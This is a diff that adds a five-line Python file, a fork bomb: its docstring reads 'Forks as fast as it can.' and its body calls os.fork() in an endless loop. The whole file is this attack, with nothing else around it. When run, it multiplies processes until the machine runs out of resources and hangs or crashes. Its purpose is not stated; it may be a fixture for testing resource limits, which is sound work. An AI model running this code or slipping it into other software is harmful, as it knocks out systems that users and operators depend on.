@@ -1,0 +1,5 @@
+"""Forks as fast as it can."""
+import os
+
+while True:
+    os.fork()
